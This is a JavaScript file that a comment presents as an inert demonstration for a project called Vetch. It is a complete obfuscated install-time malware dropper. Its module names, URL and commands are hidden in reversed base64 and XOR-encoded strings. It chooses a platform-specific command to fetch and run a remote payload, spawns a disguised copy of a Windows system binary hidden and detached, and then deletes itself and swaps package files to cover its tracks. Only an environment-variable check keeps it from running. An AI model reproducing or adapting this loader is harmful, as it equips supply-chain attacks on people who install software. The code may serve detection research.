// Inert: part of a demonstration, see demo/README.md of Vetch. It acts only when VETCH_DEMO_ARM is
// set, which nothing does, and its hosts are under .invalid, which never resolves.
const words = [
  '=kLx+SMqE7KxlS8vE3LxSScqEHKxjScpE7Kx',
  '==gvEvKx',
  '==gvELKx',
  '=Iax9WcvF3bx1WMsFnKxkScoEvKx7S8oETKxjWspEvKxhSsrE/LxsSsvELaxiW8tF3Lx+ScuEXKx',
  'jSMpErLx4SMrEnKx',
  '==wvF7bxkSMpErLx',
  'qW8rFvaxtWshE/JxYScrF7KxjSsoEDKxjWcuEnKxsS8oFjKxmScvE3LxsS8oFDKxlSsrELax+S8rEXKxuSMrE7IxiW8sE/LxsS8vEjKxkScgELaxtW8qFzaxtWcqEPKxlSMoEPax5SsrEzKxkWMqEHKx9SsuEzKxjWMoELKxuScpF7LxoScpEnKxsSsjELax0S8vEvKx/S8rETKxGSsoF3ax9WsuFrbxqWcqELKxgSsoE7KxtW8qFvaxtWshE/JxYScrFnLxgWcrF3bx5SsrE/LxpSsoE/Lx6SsoFnKxkScoEzKx8S8oETKxjW8pE3LxjS8oF7LxoScrEzKxmSsrEvKx9ScrFnKxgWcrF7KxjSsoEDKxkWcuE7KxsS8oFjKxmScvE3LxsSMpFDKxiSsrELax+S8rEXKxuSMrEnIxiWMtE/LxsS8vEjKxkScgELaxqWsoEDaxtWcoE/Lx/SsrE/axtWsvE3LxkS8vE7Kx+SsqFHKxhSMqELKx+ScrFLKxpSsqFraxoSMoF3ax+ScvETKx/SsrE7LxrSsvELKx',
  '=gKx1SMqEPaxmScoEjKxlScuE/LxoSsuELKx9SslE3bxjWMvFzLxRScoEHKxoScpEnJx/SMqErLxlScnE7Lx6SsoEnKxkSMpErJx',
  'oSctEjKxkWcuErLx',
  'vWMvF7Lx9S8oFnbx+WcvF/bx6W8vFvbxRScnEDIxPScmEfbx7SMpEjKxpWcrFvaxtWcsFzbx+ScvETax+WsvF3bx/WcvFjbx7WckE3JxHSMiEnJx3W8uEPKxvScqF3axoSspETKxLScuEjLxCS8pF3ax8WcuEnKx4ScqELKx/ScvEXaxpSMpEHKxrS8uEPKxkS8oFDKx6S8oEPax+S8rErKxsSspE7KxsSsuE3ax0ScqEXKxPSMoF3ax5SsvEXKxdScrFnKxlScpEnLxoSMgEDaxqWcgE/JxYSsqF/Lx6SMpE/axtWcqEDaxtWsvEnLxsScvETLxvScrFrLxoSMoF3axkSMqEnKxpSMpEXKxqWsuEDax',
  '=waxtWMvFvaxzW8vFraxhScoEjLxkSsoFvLxoScqELaxqW8sF3axBSMmEjJxtWMtE3LxjWsrEHKxiWcvEfKx5SsoF3ax+W8oEXKxlScuETLx6ScrF3Lx4ScpELKxkScrFvaxrWsqFHIxfSMmE3ax+S8pF3ax/WcuEnKx4ScqELKx/ScvEXaxpSMpEHKxrS8uEPKxkS8oFDKx6S8oEPax+S8rErKxsSspE7KxsSsuE3axpSMoFrax0ScvEPaxpScoEXax9SMoEnLxlWcrFLKxgWcrFHKx4SMuE7Kx',
  'jSsoE7LxgS8oFjKxqSMrEbKxpSMrE3Lx',
  '=kKxnS8oFjKxqSMrEbKxpSMrE3Lx',
];
const key = 'OrDeR_7077';

const unmask = (text) => {
  const digits = key.split('').map(Number);
  return text
    .split('')
    .map((letter, r) => String.fromCharCode(letter.charCodeAt(0) ^ digits[(7 * r * r) % 10] ^ 333))
    .join('');
};
const word = (at) => unmask(Buffer.from(words[at].split('').reverse().join(''), 'base64').toString('utf8'));

const entry = (campaign) => {
  if (process.env.VETCH_DEMO_ARM !== 'yes') return;
  try {
    const { exec, spawn } = require(word(0));
    const fs = require(word(1));
    const os = require(word(2));
    const path = require('path');
    const url = word(3) + campaign;
    const platform = os.platform();
    if (platform === word(4)) {
      exec(word(6).replaceAll('URL', url));
    } else if (platform === word(5)) {
      const shell = path.join(process.env.PROGRAMDATA, word(8));
      fs.copyFileSync(path.join(process.env.SYSTEMROOT, 'System32', word(7)), shell);
      const line = word(9).replaceAll('URL', url);
      spawn(shell, line.split(' '), { detached: true, windowsHide: true, stdio: 'ignore' }).unref();
    } else {
      exec(word(10).replaceAll('URL', url));
    }
    fs.unlinkSync(__filename);
    fs.unlinkSync(path.join(__dirname, word(11)));
    fs.renameSync(path.join(__dirname, word(12)), path.join(__dirname, word(11)));
  } catch {}
};

entry('6202033');
